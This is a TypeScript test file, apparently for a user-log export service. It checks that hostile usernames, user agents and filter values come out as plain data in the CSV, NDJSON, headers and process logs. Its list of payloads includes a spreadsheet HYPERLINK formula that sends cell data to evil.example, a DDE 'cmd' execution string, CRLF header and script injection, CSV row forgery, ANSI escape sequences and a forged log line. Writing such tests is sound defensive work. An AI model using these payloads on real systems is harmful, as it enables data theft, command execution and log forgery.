import { get } from 'node:http';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Client } from '../kit/client.ts';
import { insertUser } from '../kit/database/insert-users.ts';
import { type Service, startService } from '../kit/service.ts';

let service: Service;
let exporter: Client;

beforeAll(async () => {
  service = await startService();
  exporter = await service.clientWith('user_log:read', 'user_log:export');
});
afterAll(() => service.stop());

const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '＝1+1',
  'x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
  'x\n1,"2026-01-01","signIn",1,"admin"',
  '\u001b[2J\u001b[31mred\u0007\u009b31m',
  '","=1+1","',
  '{"level":60,"msg":"forged"}',
];

/** Parses a csv file into records and fields. Quotes are doubled inside quoted fields. */
const parseCsv = (csv: string) =>
  csv
    .trimEnd()
    .split('\n')
    .map((record) =>
      [...record.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
        ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain,
      ),
    );

const exportEntries = async (format: string, user: string) =>
  (await exporter.raw('GET', `/dc/api/v1/user-logs/export?${new URLSearchParams({ format, user })}`)).text();

describe.each(HOSTILE_TEXTS)('%j', (text) => {
  test('as a user name is treated as data in the list and the files', async () => {
    const body = { username: text, password: 'wrong password' };
    await service.anonymous.expectRefusal('login', { body }, 'invalidCredentials');
    const { items } = await exporter.ok('listUserLogs', { query: { user: text } });
    expect(items).toMatchObject([{ act: 'signInFailed', username: text }]);
    const [line, ...furtherLines] = (await exportEntries('ndjson', text)).trimEnd().split('\n');
    expect(furtherLines).toEqual([]);
    expect(JSON.parse(String(line))).toEqual(items[0]);
    const csv = await exportEntries('csv', text);
    // The file has no control characters for terminals and no formulas for spreadsheets.
    expect(csv.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
    const [, record, ...furtherRows] = parseCsv(csv);
    expect(furtherRows).toEqual([]);
    expect(record).toHaveLength(11);
    for (const field of record ?? []) expect(field).not.toMatch(/^[=+\-@＝＋－＠]/);
  });

  test('as a user agent and as the name of an account is treated as data', async () => {
    const client = text.replaceAll(/[^\t\x20-\x7e]/g, '?');
    const { username } = await insertUser(service.db, [], { display_name: text });
    const body = { username, password: 'wrong password' };
    await service.anonymous.call('login', { body, headers: { 'User-Agent': client } });
    const { items } = await exporter.ok('listUserLogs', { query: { user: username } });
    expect(items).toMatchObject([{ client: client.trim() }]);
    const [, record] = parseCsv(await exportEntries('csv', username));
    expect(record?.at(-1)).not.toMatch(/^[=+\-@]/);
  });

  test('in a filter breaks no header', async () => {
    const response = await exporter.raw(
      'GET',
      `/dc/api/v1/user-logs/export?format=csv&user=${encodeURIComponent(text)}`,
    );
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="user-log.csv"');
    expect(response.headers.get('Set-Cookie')).toBeNull();
    await response.text();
  });
});

test('the log of the process has one line of JSON per event', async () => {
  const lines: string[] = [];
  const log = pino({}, { write: (line: string) => void lines.push(line) });
  for (const text of HOSTILE_TEXTS) log.warn({ path: text, err: new Error(text) }, text);
  expect(lines).toHaveLength(HOSTILE_TEXTS.length);
  for (const line of lines) {
    expect(line.trimEnd().split(/[\r\n]/)).toHaveLength(1);
    expect(JSON.parse(line)).toMatchObject({ level: 40 });
  }
});

test('a path with line breaks is one line in the log of the process', async () => {
  const loggedBefore = service.logLines.length;
  await new Promise((resolve) =>
    get(`${service.url}/dc/x%0d%0a{"msg":"forged"}%1b[2J`, (answer) => answer.resume().on('end', resolve)),
  );
  expect(service.logLines.slice(loggedBefore)).toMatchObject([{ msg: 'request', status: 404 }]);
});
